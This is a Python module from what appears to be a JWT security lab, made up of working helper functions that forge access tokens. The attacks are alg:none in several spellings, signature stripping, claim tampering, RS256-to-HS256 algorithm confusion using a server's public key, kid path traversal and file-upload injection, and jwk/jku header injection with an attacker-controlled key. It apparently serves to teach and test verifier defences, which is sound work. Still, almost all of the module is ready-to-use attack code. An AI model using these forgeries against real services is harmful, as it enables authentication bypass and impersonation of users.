"""Crafting forged JWTs, one helper per attack: each returns the forged token, ready to present.

Forged headers copy what the provider's access tokens carry (``typ: at+jwt``),
so that a verifier which checks the type still has to find the real flaw. Every
token is built by hand (base64url, JSON, :mod:`hmac`), as an attacker would:
:func:`tokenlab.sign` refuses weak secrets and public keys as HMAC keys.
"""

from __future__ import annotations

import functools
import json
from collections.abc import Mapping
from importlib import resources
from typing import Any

from tokenlab.attacks.naive import hmac_signature, upload
from tokenlab.keys import Key, as_key
from tokenlab.tokens import b64url_decode, b64url_encode

__all__ = [
    "ACCESS_TOKEN_HEADER",
    "ALG_NONE_VARIANTS",
    "ATTACKER_KID",
    "alg_none",
    "algorithm_confusion",
    "attacker_key",
    "hmac_forge",
    "jku_injection",
    "jwk_injection",
    "key_forge",
    "kid_file_injection",
    "kid_path_traversal",
    "pem_from_jwk",
    "strip_signature",
    "tamper_payload",
]

ACCESS_TOKEN_HEADER: Mapping[str, Any] = {"typ": "at+jwt"}
"""What a forged header carries besides ``alg``, unless told otherwise: the provider's access-token type."""

ALG_NONE_VARIANTS = ("none", "None", "NONE", "nOnE")
"""``none`` as RFC 7518 §3.6 spells it, and the spellings that slipped past verifiers comparing case-sensitively."""

ATTACKER_KID = "attacker-key"


@functools.cache
def attacker_key() -> Key:
    """The attacker's own RS256 key pair (fixed, so the lab's tokens repeat; see ``tokenlab/data/README.md``)."""
    pem = resources.files("tokenlab").joinpath("data", "attacker-rs256.pem").read_bytes()
    return as_key(pem, "RS256", kid=ATTACKER_KID)


def _segment(value: Mapping[str, Any]) -> str:
    return b64url_encode(json.dumps(value, separators=(",", ":")).encode("utf-8"))


def _base(header: Mapping[str, Any] | None) -> dict[str, Any]:
    return dict(ACCESS_TOKEN_HEADER if header is None else header)


def _header(alg: str, header: Mapping[str, Any] | None) -> dict[str, Any]:
    return {"alg": alg, **{name: value for name, value in _base(header).items() if name != "alg"}}


def hmac_forge(
    claims: Mapping[str, Any], secret: bytes | str, *, alg: str = "HS256", header: Mapping[str, Any] | None = None
) -> str:
    """An HMAC-signed token under any secret at all: a guessed word, an empty file, a public key's text."""
    signing_input = f"{_segment(_header(alg, header))}.{_segment(claims)}"
    return f"{signing_input}.{b64url_encode(hmac_signature(alg, secret, signing_input.encode('ascii')))}"


def key_forge(claims: Mapping[str, Any], key: Key, *, header: Mapping[str, Any] | None = None) -> str:
    """A token validly signed by ``key`` (the attacker's own), with whatever header the attacker likes."""
    signing_input = f"{_segment(_header(key.alg, header))}.{_segment(claims)}"
    return f"{signing_input}.{b64url_encode(key.sign_bytes(signing_input.encode('ascii')))}"


# --- A1 and A3: the signature itself -------------------------------------------------------------------------------


def alg_none(claims: Mapping[str, Any], *, alg: str = "none", header: Mapping[str, Any] | None = None) -> str:
    """An unsecured JWS (RFC 7515 Appendix A.5, RFC 7518 §3.6): ``alg: none`` (in any spelling) and no signature."""
    return f"{_segment(_header(alg, header))}.{_segment(claims)}."


def strip_signature(token: str) -> str:
    """The same header and payload with the signature cut off: ``header.payload.``."""
    header, payload, _ = token.split(".")
    return f"{header}.{payload}."


def tamper_payload(token: str, changes: Mapping[str, Any]) -> str:
    """The token with some claims changed (``None`` deletes one), the original header and signature kept."""
    header, payload, signature = token.split(".")
    claims = json.loads(b64url_decode(payload, part="payload"))
    for name, value in changes.items():
        if value is None:
            claims.pop(name, None)
        else:
            claims[name] = value
    return f"{header}.{_segment(claims)}.{signature}"


# --- A2: algorithm confusion ----------------------------------------------------------------------------------------


def pem_from_jwk(jwk: Mapping[str, Any]) -> str:
    """The PEM text of a public key published as a JWK, as ``openssl`` or a server's key file would write it.

    An attacker who only has the JWKS (it is public) rebuilds the exact bytes a
    server keeps in its PEM file.
    """
    return as_key(dict(jwk)).public_pem()


def algorithm_confusion(
    claims: Mapping[str, Any], public_key_text: str | bytes, *, header: Mapping[str, Any] | None = None
) -> str:
    """RS256 → HS256: an HS256 token whose HMAC secret is the server's *public* key, as PEM or JWK text.

    A verifier that lets the header pick the algorithm computes HMAC with the
    key it holds, the public key's bytes, which the attacker knows too
    (RFC 8725 §2.1; CVE-2015-9235, CVE-2022-29217).
    """
    return hmac_forge(claims, public_key_text, header=header)


# --- A6: kid ----------------------------------------------------------------------------------------------------------


def kid_path_traversal(
    claims: Mapping[str, Any],
    *,
    target: str = "/dev/null",
    content: bytes = b"",
    depth: int = 8,
    header: Mapping[str, Any] | None = None,
) -> str:
    """``kid: ../../…/dev/null``: a verifier that opens the kid as a file reads ``content`` (nothing, for
    /dev/null) and checks an HS256 signature made with it as the secret."""
    kid = "../" * depth + target.lstrip("/")
    return hmac_forge(claims, content, header={**_base(header), "kid": kid})


def kid_file_injection(
    claims: Mapping[str, Any],
    secret: bytes,
    *,
    name: str = "profile-picture.png",
    header: Mapping[str, Any] | None = None,
) -> str:
    """Upload a "profile picture" whose bytes are the attacker's secret, then point ``kid`` at it.

    The upload goes through the lab's demo app (:func:`tokenlab.attacks.naive.upload`),
    into the lab's temporary directory.
    """
    upload(name, secret)
    return hmac_forge(claims, secret, header={**_base(header), "kid": f"../uploads/{name}"})


# --- A5: keys carried or named by the token -------------------------------------------------------------------------


def jwk_injection(
    claims: Mapping[str, Any],
    key: Key | None = None,
    *,
    kid: str | None = None,
    header: Mapping[str, Any] | None = None,
) -> str:
    """Sign with the attacker's own key and put its public half in the ``jwk`` header (RFC 7515 §4.1.3).

    The ``kid`` is the attacker key's own, unless another is given (the trusted key's, say, to look genuine).
    """
    key = key or attacker_key()
    return key_forge(claims, key, header={**_base(header), "kid": kid or key.kid, "jwk": key.public_jwk()})


def jku_injection(
    claims: Mapping[str, Any],
    jku: str,
    key: Key | None = None,
    *,
    kid: str | None = None,
    header: Mapping[str, Any] | None = None,
) -> str:
    """Sign with the attacker's own key and point ``jku`` at the attacker's JWKS (RFC 7515 §4.1.2).

    Serve that JWKS with :func:`tokenlab.attacks.attacker_key_server`, on 127.0.0.1.
    """
    key = key or attacker_key()
    return key_forge(claims, key, header={**_base(header), "kid": kid or key.kid, "jku": jku})
